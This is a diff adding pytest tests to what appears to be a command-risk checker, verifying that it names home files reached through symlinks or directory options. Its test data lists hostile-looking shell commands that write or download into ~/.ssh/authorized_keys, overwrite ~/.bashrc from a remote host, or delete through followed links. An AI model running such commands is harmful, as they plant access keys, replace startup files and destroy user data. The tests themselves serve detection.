@@ -11,6 +11,8 @@ from typing import Any
 
 import pytest
 
+from tapgate.daemon.links import DiskLinks
+from tapgate.risk.assess import examine
 from tests.builders import event_bytes
 from tests.e2e.world import Message, World, finish, new_world
 
@@ -245,3 +247,87 @@ def test_deleting_a_home_below_tmp_is_named(world: World, shop: Path, text: str)
     """A home directory is nobody's temporary file, wherever it lies. The one of this test lies below /tmp."""
     assert str(world.home).startswith("/tmp/")
     assert "Deletes the whole home directory" in command(world, shop, text)["text"]
+
+
+# Forms in which the same path is named otherwise; looked at on a real disk, without the processes
+
+
+def said_about(home: Path, command: str) -> list[str]:
+    """What a card would say about this command in the project `shop`."""
+    project = home / "shop"
+    project.mkdir(parents=True)
+    for name, goal in (("out", "other"), ("rc", ".bashrc"), ("ssh", ".ssh")):
+        (home / goal).touch() if name == "rc" else (home / goal).mkdir()
+        (project / name).symlink_to(home / goal)
+    with DiskLinks() as links:
+        found = examine(
+            "Bash", {"command": command}, cwd=str(project), project=str(project), home=str(home), links=links
+        )
+    return [*(risk.sentence for risk in found.risks), *(link.says for link in found.links)]
+
+
+@pytest.mark.parametrize(
+    ("command", "target"),
+    [
+        ("find -L out -delete", "~/other"),
+        ("find -H out -type f -delete", "~/other"),
+        ("find out -follow -delete", "~/other"),
+        ("find -L . -delete", "where links in there lead"),
+        ("find . -fprint rc", "~/.bashrc"),
+        ("gcc x.c -o rc", "~/.bashrc"),
+        ("gcc -orc -fno-common x.c", "~/.bashrc"),
+        ("sort -o rc names.txt", "~/.bashrc"),
+        ("sort -uorc names.txt", "~/.bashrc"),
+        ("pandoc README.md --output rc", "~/.bashrc"),
+        ("env -C ssh tee authorized_keys", "~/.ssh"),
+        ("env --chdir=ssh FOO=1 tee authorized_keys", "~/.ssh"),
+        ("env -C out/../.ssh tee authorized_keys", "~/.ssh"),
+        ("curl -sO --output-dir ssh https://host.example/authorized_keys", "~/.ssh"),
+        ("curl -O https://host.example/rc", "~/.bashrc"),
+    ],
+)
+def test_a_link_is_followed_where_the_same_path_without_it_would_be_read(
+    tmp_path: Path, command: str, target: str
+) -> None:
+    """Whatever option or program names the path, the target stands in a risk or in a link's line."""
+    said = said_about(tmp_path / "home", command)
+    assert any(target in sentence for sentence in said), said
+
+
+@pytest.mark.parametrize(
+    ("command", "target"),
+    [
+        ("env -C ~/.ssh tee authorized_keys", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
+        ("env -C ~/.ssh -S 'tee authorized_keys'", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
+        ("sudo -D ~/.ssh tee authorized_keys", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
+        ("systemd-run --working-directory ~/.ssh tee authorized_keys", "kept: ~/.ssh/authorized_keys"),
+        ("curl --output-dir ~/.ssh -o authorized_keys https://host.example/k", "keys and sign-ins are kept: ~/.ssh"),
+        ("curl --output-dir ~ -O https://host.example/.bashrc", "~/.bashrc"),
+        ("wget -P ~ https://host.example/.bashrc?x=1", "~/.bashrc"),
+        ("cd ~/.ssh && sort -o authorized_keys /tmp/k", "keys and sign-ins are kept: ~/.ssh/authorized_keys"),
+        ("find -L ~/other -delete", "~/other"),
+    ],
+)
+def test_a_directory_that_an_option_names_is_where_the_files_are(tmp_path: Path, command: str, target: str) -> None:
+    """The same without a link: what is written is judged by the directory in which the command runs or saves."""
+    said = said_about(tmp_path / "home", command)
+    assert any(target in sentence for sentence in said), said
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "gcc -O2 -Wno-error x.c -o build/x",
+        "sort -u -o names.txt names.txt",
+        "env -C src python3 app.py",
+        "env -u FOO make -C src",
+        "curl -sSLo out.json https://host.example/api",
+        "curl -O https://host.example/v1/data.json",
+        "grep -rno rc src",
+        "find . -name '*.py'",
+        "kubectl get pods -o json",
+        "ps -o rc",
+    ],
+)
+def test_ordinary_outputs_are_no_risk(tmp_path: Path, command: str) -> None:
+    assert said_about(tmp_path / "home", command) == []
